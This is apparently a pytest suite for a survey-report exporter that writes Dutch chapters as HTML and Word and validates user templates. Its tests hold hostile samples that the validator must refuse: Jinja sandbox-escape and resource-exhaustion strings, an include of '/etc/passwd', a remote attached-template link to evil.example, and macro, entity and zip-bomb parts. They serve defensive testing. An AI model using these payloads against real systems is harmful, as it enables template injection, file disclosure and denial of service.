"""Chapters as HTML and Word: sentences that follow the numbers, pictures with words, real styles,
templates that can do no harm.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from export_samples import QUOTE, rich
from samples import edges, guessing, summary

from pipeline.counts import RunSummary
from pipeline.errors import MissingExtraError, UnreadableFileError
from pipeline.report.chapters import chapters_html, chapters_word, check_template, picture_alt
from pipeline.report.chapters.chapter import chapters_of
from pipeline.report.chapters.word import _DOT
from pipeline.report.pictures import Picture

docx = pytest.importorskip("docx")
pytest.importorskip("docxtpl")
LEAD = "Het vaakst genoemd is ‘Efficiënter werken’: 67% (n=20)."
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"/>'


def pictures(made: RunSummary) -> dict[str, Picture]:
    """A picture for each question, with its words."""
    return {q.id: Picture(SVG, _DOT.png, picture_alt(q, made)) for q in made.questions}


def html(made: RunSummary) -> dict[str, str]:
    """The HTML files by name."""
    return {name: content.decode() for name, content in chapters_html(made, pictures(made))}


def word(made: RunSummary, template: Path | None = None) -> dict[str, bytes]:
    """The Word files by name."""
    return dict(chapters_word(made, pictures(made), template))


@pytest.fixture(scope="module")
def book() -> Any:
    """The Word book of the rich run, opened."""
    return docx.Document(BytesIO(word(rich())["chapters.docx"]))


def texts(document: Any) -> str:
    """All that a document says, tables included."""
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])


def test_words_follow_numbers() -> None:
    """A chapter names as increased what is, keeps silent on hidden themes, and tells its base and
    filter.
    """
    chapter = chapters_of(rich())[0]
    assert chapter.lead == LEAD
    assert chapter.change == "Toegenomen sinds 2024: Efficiënter werken."
    assert chapter.base.endswith(
        "[n=31 gemeenten]. Geteld zijn alleen gemeenten die experimenteren."
    )


def test_corrected_shares_are_a_column() -> None:
    """Where the reviewed sample moves a share, the corrected ones stand beside those counted.

    One note says what the column is; no theme is told in a sentence.
    """
    chapter = chapters_of(rich())[0]
    column = chapter.table.heads.index("2025 gecorrigeerd")
    cells = {row.label: row.cells[column - 1] for row in chapter.table.rows}

    assert cells["Efficiënter werken"] == "63% (47–77%)"
    assert set(cells.values()) == {"63% (47–77%)", "–"}
    assert sum("gecorrigeerd" in note for note in chapter.notes) == 1


def test_a_correction_that_moves_nothing_is_no_column() -> None:
    """Where no share changes as it is printed, there is nothing to tell."""
    summary = rich()
    first = summary.questions[0]
    same = tuple(replace(row, corrected=row.coded) for row in first.corrections)
    unmoved = replace(summary, questions=(replace(first, corrections=same),))
    chapter = chapters_of(unmoved)[0]

    assert "2025 gecorrigeerd" not in chapter.table.heads
    assert not any("gecorrigeerd" in note for note in chapter.notes)


def test_nothing_changed_is_said_of_what_is_shown() -> None:
    """Without a shown change the sentence says so, and speaks of the themes shown where one is
    hidden.
    """
    made = rich()
    question = made.questions[0]
    calm = tuple(
        replace(c, verdict="unknown" if c.suppressed else "same") for c in question.changes
    )
    some = replace(made, questions=(replace(question, changes=calm),))
    assert (
        chapters_of(some)[0].change
        == "Van de getoonde thema's is er sinds 2024 geen aantoonbaar veranderd."
    )
    shown = tuple(c for c in calm if not c.suppressed)
    every = replace(made, questions=(replace(question, changes=shown),))
    assert chapters_of(every)[0].change == "Geen enkel thema is sinds 2024 aantoonbaar veranderd."


def test_hidden_figures_show_nowhere() -> None:
    """A hidden figure is a word in tables, and no part of sentences, alternative texts or the order
    of rows.
    """
    made = rich()
    chapter = chapters_of(made)[0]
    rows = {row.label: row.cells for row in chapter.table.rows}
    assert rows["Zelden genoemd"][:2] == ("te weinig om te tonen", "–")
    assert rows["Zelden genoemd"][-1] == "te weinig om te tonen"
    assert [row.label for row in chapter.table.rows if row.level == 1][-1] == "Zelden genoemd"
    for told in ("(n=27)", "90%", "(n=11)", "85%"):
        assert told not in str(chapter).replace("35% (n=11)", "")
    assert "Zelden genoemd te weinig om te tonen" in picture_alt(made.questions[0], made)


class _Tags(HTMLParser):
    """Collects the tags of a page with their attributes; complains about one that isn't closed."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in {"img", "meta", "br"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


@pytest.mark.parametrize(
    "make",
    [rich, lambda: rich("en"), edges, lambda: summary([])],
    ids=["nl", "en", "edges", "nothing"],
)
def test_html_is_whole_and_does_nothing(make: Callable[[], RunSummary]) -> None:
    """Every file parses, runs no script, asks nothing of a network, and its pictures have words."""
    for content in html(make()).values():
        page = _Tags()
        page.feed(content)
        assert page.open == []
        assert "script" not in {tag for tag, _ in page.tags}
        for tag, attributes in page.tags:
            assert not any(name.startswith("on") for name in attributes)
            if tag == "img":
                assert (attributes["src"] or "").startswith("data:image/svg+xml;base64,")
                assert attributes["alt"]


def test_html_fragment() -> None:
    """A question's file is a section with its language, table and quotes, to be put into another
    page.
    """
    fragment = html(rich())["chapters/voordelen.html"]
    assert fragment.startswith('<section class="turven-chapter" id="voordelen" lang="nl">')
    assert "&lt;b&gt;uren&lt;/b&gt; per week &amp; [NAAM]" in fragment
    assert fragment.count("<table") == 3
    assert (
        '<th scope="row">Efficiënter werken</th><td>67% (n=20)</td><td>49% tot 81%</td>' in fragment
    )
    assert "{{ 7*7 }}" in html(rich())["chapters.html"]


def test_word_book(book: Any) -> None:
    """The book has real headings, captions and quotes, a table that repeats its head, and says what
    the HTML says.
    """
    styles = [(p.style.name, p.text) for p in book.paragraphs]
    assert ("Title", "AI Monitor Gemeenten 2025") in styles
    assert next(text for style, text in styles if style == "Heading 1") == "Voordelen van AI"
    assert ("Quote", f"‘{QUOTE}’") in styles
    assert [cell.text for cell in book.tables[0].rows[1].cells][:3] == [
        "Efficiënter werken",
        "67% (n=20)",
        "49% tot 81%",
    ]
    assert book.tables[0].rows[0]._tr.xpath("./w:trPr/w:tblHeader")
    assert "{{ 7*7 }}" in texts(book)
    assert "<script>alert('x')</script>" in texts(book)
    assert "{%" not in texts(book).replace("{% raw %}", "")


def test_word_is_accessible(book: Any) -> None:
    """Pictures have words, and texts are checked for spelling in the study's language."""
    described = [shape._inline.docPr.get("descr") for shape in book.inline_shapes]
    assert described == [picture_alt(question, rich()) for question in rich().questions]
    assert book.styles.element.xpath("./w:docDefaults//w:lang/@w:val") == ["nl-NL"]
    english = docx.Document(BytesIO(word(rich("en"))["chapters.docx"]))
    assert english.styles.element.xpath("./w:docDefaults//w:lang/@w:val") == ["en-GB"]


def test_word_is_valid_where_word_is_strict(book: Any) -> None:
    """Settings of tables stand in the order that Word wants, columns add up to the text's width,
    ids of pictures differ.
    """
    order = ["tblStyle", "tblW", "jc", "tblInd", "tblBorders", "tblLayout", "tblLook"]
    for table in book.tables:
        found = [child.tag.split("}")[1] for child in table._tbl.tblPr]
        assert found == sorted(found, key=order.index)
        widths = [int(width) for width in table._tbl.xpath("./w:tblGrid/w:gridCol/@w:w")]
        assert len(widths) == len(table.rows[0].cells)
        assert sum(widths) == pytest.approx(9072, abs=10)
    ids = book.element.xpath("//wp:docPr/@id")
    assert len(set(ids)) == len(ids) == 3


def test_word_has_a_file_for_each_question() -> None:
    """Each question has a document of its own, without the book's title page.

    The template is there to take and change.
    """
    files = word(rich())
    assert set(files) == {
        "chapters.docx",
        "chapters-template.docx",
        *(f"chapters/{q.id}.docx" for q in rich().questions),
    }
    one = docx.Document(BytesIO(files["chapters/voordelen.docx"]))
    assert one.paragraphs[0].text == "Voordelen van AI"
    assert "{{ q.title }}" in texts(docx.Document(BytesIO(files["chapters-template.docx"])))


def test_word_gives_the_same_bytes() -> None:
    """The same run gives the same bytes."""
    assert word(rich()) == word(rich())


@pytest.mark.parametrize("make", [edges, lambda: summary([])], ids=["edges", "nothing"])
def test_word_at_the_edges(make: Callable[[], RunSummary]) -> None:
    """Nobody, everybody, sixty themes, markup and no question at all give documents that open."""
    for content in word(make()).values():
        docx.Document(BytesIO(content))


def test_long_pictures_stay_on_their_page() -> None:
    """A picture that is higher than a page is made smaller as a whole."""
    made = rich()
    png = bytearray(_DOT.png)
    png[16:24] = (2000).to_bytes(4, "big") + (9000).to_bytes(4, "big")
    files = dict(chapters_word(made, {"voordelen": Picture(b"", bytes(png), "hoog")}, None))
    shape = docx.Document(BytesIO(files["chapters/voordelen.docx"])).inline_shapes[0]
    assert shape.height.cm == pytest.approx(20, abs=0.1)
    assert shape.width.cm == pytest.approx(20 * 2 / 9, abs=0.1)


def template(path: Path, *lines: str) -> Path:
    """A template with those paragraphs."""
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    document.save(path)
    return path


def test_own_template(tmp_path: Path) -> None:
    """A house's own template is filled; its words, styles and order are its own."""
    own = template(
        tmp_path / "huis.docx",
        "Huis & Co: {{ title }}",
        "{%p for q in questions %}",
        "{{ q.title }} | {{ q.lead }}",
        "{%p endfor %}",
    )
    check_template(own)
    files = word(rich(), own)
    assert "chapters-template.docx" not in files
    said = texts(docx.Document(BytesIO(files["chapters.docx"])))
    assert said.splitlines()[:2] == [
        "Huis & Co: AI Monitor Gemeenten 2025",
        "Voordelen van AI | Het vaakst genoemd is ‘Efficiënter werken’: 67% (n=20).",
    ]


def test_the_template_that_we_give_can_be_given_back(tmp_path: Path) -> None:
    """The template in the outputs, taken as the house's own, says the same."""
    files = word(rich())
    own = tmp_path / "huis.docx"
    own.write_bytes(files["chapters-template.docx"])
    check_template(own)
    again = word(rich(), own)
    assert texts(docx.Document(BytesIO(again["chapters.docx"]))) == texts(
        docx.Document(BytesIO(files["chapters.docx"]))
    )


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("{{ q.titel }}", "there is no placeholder 'q' here; docs/report-files.md lists them"),
        ("{{ titel }}", "there is no placeholder 'titel' here. Did you mean title?"),
        ("{{ questions[0].picure }}", "no placeholder 'picure' here. Did you mean picture?"),
        ("{{ questions[9].title }}", "there is no placeholder '9' here"),
        ("{{ title.nope }}", "there is no placeholder 'nope' here"),
        ("{% for q in questions %}", "a tag is misspelt or not closed (Unexpected end of template"),
        ("{{ title | upr }}", "a tag is misspelt or not closed (No filter named 'upr'.)"),
        ("{{ title", "unexpected"),
        ("{{ title.__class__.__mro__ }}", "unsafe"),
        ("{{ ''.__class__.__base__.__subclasses__() }}", "unsafe"),
        ("{{ 'a' * 9999999999 }}", "modest numbers"),
        ("{{ 9 ** 9999 }}", "no place"),
        ("{{ '%0999999999d' % 1 }}", "modest numbers"),
        ("{{ range(999999999) }}", "range"),
        ("{% include '/etc/passwd' %}", "loader"),
        ("{{ questions.append(1) }}", "unsafe"),
        ("{{ 1 / 0 }}", "division by zero"),
    ],
)
def test_broken_and_hostile_tags_are_told_in_a_line(tmp_path: Path, line: str, said: str) -> None:
    """A tag that asks for what isn't there, or for more than a template may, is one line that names
    the file.
    """
    with pytest.raises(UnreadableFileError) as told:
        check_template(template(tmp_path / "kwaad.docx", line))
    assert "kwaad.docx" in str(told.value)
    assert said in str(told.value)
    assert "\n" not in str(told.value)


def changed(path: Path, name: str, content: bytes) -> Path:
    """The template with a part added or replaced."""
    template(path, "{{ title }}")
    with ZipFile(path) as made:
        parts = {part: made.read(part) for part in made.namelist()}
    with ZipFile(path, "w") as made:
        for part, old in {**parts, name: content}.items():
            made.writestr(part, old if part != name else content)
    return path


REMOTE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("word/vbaProject.bin", b"x", "macros"),
        ("word/embeddings/oleObject1.bin", b"x", "embedded"),
        ("word/_rels/settings.xml.rels", REMOTE, "from elsewhere"),
        ("word/document.xml", b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x/>', "entities"),
        ("word/document.xml", b"<w:document", "can't be filled"),
        ("word/bomb.xml", b"\x20" * (101 << 20), "unpacks to 101 MB, more than is safe to open"),
    ],
    ids=["macro", "object", "remote", "entities", "broken", "bomb"],
)
def test_hostile_files_are_refused(tmp_path: Path, name: str, content: bytes, said: str) -> None:
    """A template with macros, embedded objects, remote parts, entities, damage or a bomb is refused
    in one line.
    """
    with pytest.raises(UnreadableFileError, match=said):
        check_template(changed(tmp_path / "t.docx", name, content))


def test_not_a_template(tmp_path: Path) -> None:
    """A file that is no Word document, or isn't there, is told in a line."""
    (tmp_path / "t.docx").write_bytes(b"geen zip")
    with pytest.raises(UnreadableFileError, match="not a Word document"):
        check_template(tmp_path / "t.docx")
    with pytest.raises(UnreadableFileError, match="no such file"):
        check_template(tmp_path / "weg.docx")


def test_signs_that_no_document_holds() -> None:
    """Control characters and halves of emoji in labels and quotes break no document."""
    made = rich()
    question = made.questions[0]
    odd = replace(
        question,
        title="a\x00b\x0bc\ud83d\ufffe",
        quotes=(replace(question.quotes[0], text="x\x07y\f{{ z }}"),),
    )
    made = replace(made, questions=(odd,))
    said = texts(docx.Document(BytesIO(word(made)["chapters.docx"])))
    assert re.search(r"x\S+y\s?.*\{\{ z \}\}", said)
    assert html(made)["chapters.html"]


def test_without_the_library(monkeypatch: pytest.MonkeyPatch) -> None:
    """Without docxtpl one line says what to install."""
    monkeypatch.setitem(__import__("sys").modules, "docxtpl", None)
    with pytest.raises(MissingExtraError, match=r"pip install 'turven\[word\]'"):
        word(rich())


def test_chapter_says_what_rests_on_guesses() -> None:
    """A note says how many codings are guesses and what that is, the table how many of each n."""
    said = texts(docx.Document(BytesIO(word(guessing(rich()))["chapters.docx"])))
    chapter = html(guessing(rich()))["chapters/nadelen.html"]

    assert "coderingen zijn vermoedens: nog door geen label gesteund." in said
    assert "Vermoeden: de machine vond het thema, maar nog geen label steunt dat." in said
    assert "58% (n=7), waarvan 2 vermoedens" in said
    assert "58% (n=7), waarvan 2 vermoedens" in chapter
    assert "vermoeden" not in texts(docx.Document(BytesIO(word(rich())["chapters.docx"])))
